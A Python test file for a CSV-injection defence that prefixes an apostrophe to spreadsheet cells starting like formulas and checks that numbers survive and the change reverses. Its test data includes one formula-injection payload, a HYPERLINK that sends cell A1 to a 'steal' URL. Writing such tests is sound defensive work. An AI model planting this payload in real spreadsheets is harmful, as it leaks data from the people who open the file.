"""The rule that makes a CSV cell safe to open in a spreadsheet (`indicators/csv_safety.py`)."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from indicators.csv_safety import neutralise, restore

FORMULA = '=HYPERLINK("http://example.org/steal?"&A1,"Click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+44 1772 000000", "'+44 1772 000000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("'quoted", "''quoted"),
        ("-4.2", "-4.2"),
        ("+1e-05", "+1e-05"),
        ("-.5", "-.5"),
        ("Blackpool", "Blackpool"),
        ("", ""),
        (-4.2, -4.2),
        (-3, -3),
        (None, None),
        (True, True),
    ],
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe_and_numbers_stay_numbers(cell, written):
    assert neutralise(cell) == written


@given(st.text())
def test_restore_gives_back_exactly_what_was_neutralised(text):
    assert restore(neutralise(text)) == text


@given(st.text())
def test_a_neutralised_cell_starts_like_a_formula_only_when_it_is_a_number(text):
    cell = neutralise(text)
    if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}:
        float(cell)  # raises for anything else
